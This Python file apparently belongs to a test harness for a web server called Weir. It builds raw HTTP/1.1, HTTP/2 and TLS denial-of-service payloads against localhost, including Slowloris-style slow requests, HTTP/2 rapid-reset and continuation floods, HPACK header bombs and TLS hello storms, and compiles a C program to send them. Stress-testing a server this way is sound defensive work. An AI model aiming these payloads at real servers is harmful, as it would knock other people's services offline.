"""Attacks as prepared bytes, and the program that sends them (attack.c)."""

import ssl
import struct
from dataclasses import dataclass
from pathlib import Path

import processes

HERE = Path(__file__).resolve().parent

HOST = b"Host: localhost\r\n"
BIG = b"/4000000"

# Of HTTP/2 (RFC 9113 section 6)
DATA, HEADERS = 0, 1
END_STREAM, END_HEADERS = 1, 4


def build(workshop):
    """The program."""
    program = workshop.dir / "attack"
    processes.run(["gcc", "-O2", "-o", program, HERE / "attack.c"])
    return program


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream
    ) + payload


def h2(*settings):
    pairs = b"".join(struct.pack(">HI", key, value) for key, value in settings)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, pairs) + frame(4, 1, 0, b"")


def request(path, more=b""):
    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x09localhost" + more


def get(stream, path):
    """A whole request on a stream of HTTP/2."""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path))


def clienthello():
    """The first bytes of a TLS client, made once: whoever sends them again has nothing to compute."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    session = context.wrap_bio(into, out, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


@dataclass(frozen=True)
class Attack:
    name: str
    payload: bytes
    mode: str  # of attack.c
    number: int
    connections: int
    port: str = "port"

    @property
    def http2(self):
        return self.payload.startswith(b"PRI ")

    def command(self, workshop, program, port, seconds):
        """What to start, with its payload in a file."""
        file = workshop.dir / "payload"
        file.write_bytes(self.payload)
        words = [program, port, self.connections, seconds, file, self.mode, self.number]
        return [str(word) for word in words]


def all_of_them():
    bomb = request(b"/", b"\x40\x01a\x7f\x20" + b"v" * 159)  # a field of 160 bytes, once
    bombs = frame(1, 5, 1, bomb) + b"".join(
        frame(1, 5, i, request(b"/", b"\xbe" * 4000)) for i in range(3, 201, 2)
    )
    resets = b"".join(
        get(i, b"/1") + frame(3, 0, i, struct.pack(">I", 8))
        for i in range(1, 20001, 2)
    )
    forced = b"".join(
        get(i, b"/1") + frame(8, 0, i, struct.pack(">I", 0))
        for i in range(1, 20001, 2)
    )
    return [
        Attack("silent connections", b"G", "hold", 0, 2000),
        Attack("slow heads", b"GET / HTTP/1.1\r\n" + HOST, "hold", 8, 2000),
        Attack(
            "slow bodies",
            b"POST / HTTP/1.1\r\n" + HOST + b"Content-Length: 100000\r\n\r\n",
            "hold",
            4,
            1000,
        ),
        Attack("slow readers", b"GET " + BIG + b" HTTP/1.1\r\n" + HOST + b"\r\n", "hold", 0, 500),
        Attack(
            "slow readers, HTTP/2",
            h2((4, 0)) + b"".join(get(i, BIG) for i in range(1, 201, 2)),
            "hold",
            0,
            20,
        ),
        Attack(
            "large heads",
            b"GET / HTTP/1.1\r\n" + HOST + b"".join(b"X-%d: %s\r\n" % (i, b"y" * 500) for i in range(4000)),
            "storm",
            0,
            16,
        ),
        Attack("long URLs", b"GET /" + b"u" * (1 << 20), "storm", 0, 16),
        Attack("requests that make no sense", b"\x00GET / HTTP/1.1\r\n\r\n", "storm", 0, 64),
        Attack("pings", h2() + frame(6, 0, 0, b"12345678") * 100_000, "storm", 0, 8),
        Attack("settings", h2() + frame(4, 0, 0, b"") * 100_000, "storm", 0, 8),
        Attack(
            "priorities", h2() + frame(2, 0, 1, b"\0\0\0\0\x10") * 100_000, "storm", 0, 8
        ),
        Attack(
            "windows", h2() + frame(8, 0, 0, struct.pack(">I", 1)) * 100_000, "storm", 0, 8
        ),
        Attack("empty data", h2() + frame(1, 4, 1, request(b"/")) + frame(0, 0, 1, b"") * 100_000, "storm", 0, 8),
        Attack(
            "continuations",
            h2() + frame(1, 1, 1, request(b"/")) + frame(9, 0, 1, b"") * 100_000,
            "storm",
            0,
            8,
        ),
        Attack("rapid resets", h2() + resets, "storm", 0, 8),
        Attack("resets that Weir is made to send", h2() + forced, "storm", 0, 8),
        Attack("header bombs", h2((4, 0)) + bombs, "hold", 0, 20),
        Attack("TLS hellos", clienthello(), "storm", 100, 32, "tls"),
        Attack("unfinished TLS hellos", clienthello()[:-20], "hold", 0, 1000, "tls"),
    ]
